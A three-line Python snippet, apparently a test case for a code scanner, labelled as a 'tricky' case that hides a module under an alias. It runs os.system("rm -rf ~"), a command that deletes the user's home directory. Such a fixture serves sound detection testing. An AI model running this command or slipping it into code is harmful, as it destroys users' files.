# tricky: a module under another name
import os as o
o.system("rm -rf ~")
